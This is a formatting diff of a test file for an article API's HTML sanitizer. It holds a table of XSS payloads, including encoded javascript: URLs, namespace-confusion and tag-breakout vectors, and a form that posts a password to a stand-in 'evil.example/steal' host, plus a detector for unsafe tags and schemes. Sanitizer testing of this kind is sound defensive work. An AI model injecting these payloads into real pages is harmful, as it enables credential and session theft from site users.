@@ -1,4 +1,4 @@
-import { parse, parseFragment, serialize, type DefaultTreeAdapterTypes } from 'parse5';
+import { type DefaultTreeAdapterTypes, parse, parseFragment, serialize } from 'parse5';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { admin, createTestApp, type TestApp } from './helpers/app.js';
 import { addCaption, captionInput, readArticle } from './helpers/content.js';
@@ -27,7 +27,8 @@ const PAYLOADS: Record<string, string> = {
   'javascript: href': '<a href="javascript:alert(1)">x</a>',
   'javascript: with leading space': '<a href=" javascript:alert(1)">x</a>',
   'javascript: with tab inside': '<a href="jav&#x09;ascript:alert(1)">x</a>',
-  'entity-encoded javascript:': '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+  'entity-encoded javascript:':
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
   'hex entities without semicolons': '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
   'named entity colon': '<a href="javascript&colon;alert(1)">x</a>',
   'upper-case scheme': '<a href="JAVASCRIPT:alert(1)">x</a>',
@@ -38,22 +39,24 @@ const PAYLOADS: Record<string, string> = {
   'javascript: cite': '<blockquote cite="javascript:alert(1)">q</blockquote>',
   'style attribute': '<p style="background:url(javascript:alert(1))">styled</p>',
   'style element': '<style>body { background: url("javascript:alert(1)") }</style>',
-  'iframe': '<iframe src="javascript:alert(1)"></iframe>',
+  iframe: '<iframe src="javascript:alert(1)"></iframe>',
   'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  'object': '<object data="javascript:alert(1)"></object>',
-  'embed': '<embed src="https://evil.example/x.swf">',
-  'math namespace': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  object: '<object data="javascript:alert(1)"></object>',
+  embed: '<embed src="https://evil.example/x.swf">',
+  'math namespace':
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
   'svg style': '<svg><style><img src=x onerror=alert(1)></style></svg>',
   'math href': '<math href="javascript:alert(1)">click</math>',
-  'base': '<base href="https://evil.example/">',
+  base: '<base href="https://evil.example/">',
   'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-  'form action': '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
+  'form action':
+    '<form action="https://evil.example/steal"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
   'noscript breakout': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   'xmp breakout': '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
   'noembed breakout': '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>',
   'textarea breakout': '<textarea><img src=x onerror=alert(1)></textarea>',
   'comment breakout': '<!--><img src=x onerror=alert(1)>-->',
-  'cdata': '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  cdata: '<![CDATA[<img src=x onerror=alert(1)>]]>',
   'template in select': '<select><template><style><img src=x onerror=alert(1)></style></template></select>',
   'attribute quote breakout': '<img src="https://images.example.com/a.jpg" alt="`\'\\"><script>alert(1)</script>">',
   'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
@@ -63,13 +66,54 @@ const PAYLOADS: Record<string, string> = {
 };
 
 const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
-  a: ['href', 'title', 'rel'], img: ['src', 'alt', 'title', 'width', 'height'], blockquote: ['cite'], q: ['cite'],
-  abbr: ['title'], time: ['datetime'], th: ['scope', 'colspan', 'rowspan'], td: ['colspan', 'rowspan'],
+  a: ['href', 'title', 'rel'],
+  img: ['src', 'alt', 'title', 'width', 'height'],
+  blockquote: ['cite'],
+  q: ['cite'],
+  abbr: ['title'],
+  time: ['datetime'],
+  th: ['scope', 'colspan', 'rowspan'],
+  td: ['colspan', 'rowspan'],
 };
 const ALLOWED_TAGS = new Set([
-  'p', 'br', 'h2', 'h3', 'h4', 'a', 'em', 'i', 'strong', 'b', 'u', 's', 'sub', 'sup', 'small', 'mark', 'blockquote', 'q',
-  'cite', 'ul', 'ol', 'li', 'figure', 'figcaption', 'img', 'hr', 'abbr', 'time', 'code', 'pre', 'table', 'thead', 'tbody',
-  'tr', 'th', 'td', 'caption', 'span',
+  'p',
+  'br',
+  'h2',
+  'h3',
+  'h4',
+  'a',
+  'em',
+  'i',
+  'strong',
+  'b',
+  'u',
+  's',
+  'sub',
+  'sup',
+  'small',
+  'mark',
+  'blockquote',
+  'q',
+  'cite',
+  'ul',
+  'ol',
+  'li',
+  'figure',
+  'figcaption',
+  'img',
+  'hr',
+  'abbr',
+  'time',
+  'code',
+  'pre',
+  'table',
+  'thead',
+  'tbody',
+  'tr',
+  'th',
+  'td',
+  'caption',
+  'span',
 ]);
 const URL_ATTRIBUTES = new Set(['href', 'src', 'cite']);
 
@@ -81,16 +125,20 @@ type Node = DefaultTreeAdapterTypes.Node;
  */
 function unsafeParts(html: string): string[] {
   const found: string[] = [];
-  const body = (parse(`<!DOCTYPE html><html><head></head><body>${html}</body></html>`).childNodes.at(-1) as DefaultTreeAdapterTypes.Element);
+  const body = parse(`<!DOCTYPE html><html><head></head><body>${html}</body></html>`).childNodes.at(
+    -1,
+  ) as DefaultTreeAdapterTypes.Element;
   const visit = (node: Node) => {
     if (!('tagName' in node)) return;
     const inWrapper = ['html', 'head', 'body'].includes(node.tagName);
-    if (!inWrapper && (!ALLOWED_TAGS.has(node.tagName) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml')) found.push(`<${node.tagName}>`);
+    if (!inWrapper && (!ALLOWED_TAGS.has(node.tagName) || node.namespaceURI !== 'http://www.w3.org/1999/xhtml'))
+      found.push(`<${node.tagName}>`);
     if (inWrapper && node.attrs.length) found.push(`<${node.tagName} ${node.attrs.map((a) => a.name).join(' ')}>`);
     for (const { name, value } of inWrapper ? [] : node.attrs) {
       if (!(ALLOWED_ATTRIBUTES[node.tagName] ?? []).includes(name)) found.push(`${node.tagName}[${name}]`);
       const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
-      if (URL_ATTRIBUTES.has(name) && /^(javascript|vbscript|data):|^\/\//.test(url)) found.push(`${node.tagName}[${name}=${value}]`);
+      if (URL_ATTRIBUTES.has(name) && /^(javascript|vbscript|data):|^\/\//.test(url))
+        found.push(`${node.tagName}[${name}=${value}]`);
     }
     for (const child of node.childNodes) visit(child);
   };
@@ -104,7 +152,10 @@ const canonical = (html: string) => serialize(parseFragment(html));
 describe('the unsafeParts oracle', () => {
   it('flags what it should, so a passing test means something', () => {
     expect(unsafeParts('<p onclick="x">a</p><script></script><a href=" JaVa&#x09;script:x">b</a><svg></svg>')).toEqual([
-      'p[onclick]', '<script>', 'a[href= JaVa\tscript:x]', '<svg>',
+      'p[onclick]',
+      '<script>',
+      'a[href= JaVa\tscript:x]',
+      '<svg>',
     ]);
     expect(unsafeParts('<p>fine <a href="https://example.com/">link</a></p>')).toEqual([]);
   });
@@ -123,7 +174,12 @@ describe.each(Object.entries(PAYLOADS))('body with %s', (_name, payload) => {
 
   it('is stored without anything executable, on update', async () => {
     const article = await createArticle(t);
-    const response = await t.inject({ method: 'PATCH', url: `/v1/articles/${article.id}`, headers: ifMatch(article.etag), payload: { body } });
+    const response = await t.inject({
+      method: 'PATCH',
+      url: `/v1/articles/${article.id}`,
+      headers: ifMatch(article.etag),
+      payload: { body },
+    });
     expect(response.statusCode, response.body).toBe(200);
     const row = await t.app.database.prisma.article.findUniqueOrThrow({ where: { id: article.id } });
     expect(unsafeParts(row.body)).toEqual([]);
@@ -152,7 +208,13 @@ describe('plain-text fields', () => {
   const hostile = '<script>alert("x")</script> & <b>bold</b> &amp; &lt;p&gt; "quoted" \'single\' javascript:alert(1)';
 
   it('are stored and returned verbatim: not interpreted, not escaped', async () => {
-    const fields = { headline: `Headline ${hostile}`, summary: `Summary ${hostile}`, byline: `By ${hostile}`.slice(0, 300), source: `Src ${hostile}`, section: `Sec ${hostile}` };
+    const fields = {
+      headline: `Headline ${hostile}`,
+      summary: `Summary ${hostile}`,
+      byline: `By ${hostile}`.slice(0, 300),
+      source: `Src ${hostile}`,
+      section: `Sec ${hostile}`,
+    };
     const article = await createArticle(t, fields);
     expect(article).toMatchObject(fields);
     expect(await readArticle(t, article.id)).toMatchObject(fields);
@@ -162,10 +224,19 @@ describe('plain-text fields', () => {
 
   it('include caption text, credit and alt text', async () => {
     const article = await createArticle(t);
-    const fields = { text: `Caption ${hostile}`, credit: `Credit ${hostile}`, altText: `Alt ${hostile}`, location: `Place ${hostile}` };
+    const fields = {
+      text: `Caption ${hostile}`,
+      credit: `Credit ${hostile}`,
+      altText: `Alt ${hostile}`,
+      location: `Place ${hostile}`,
+    };
     const caption = await addCaption(t, article, captionInput(fields));
     expect(caption).toMatchObject(fields);
-    const read = await t.inject({ method: 'GET', url: `/v1/articles/${article.id}/captions/${caption.id}`, headers: admin });
+    const read = await t.inject({
+      method: 'GET',
+      url: `/v1/articles/${article.id}/captions/${caption.id}`,
+      headers: admin,
+    });
     expect(read.json()).toMatchObject(fields);
     expect(read.headers['content-type']).toMatch(/^application\/json/);
   });
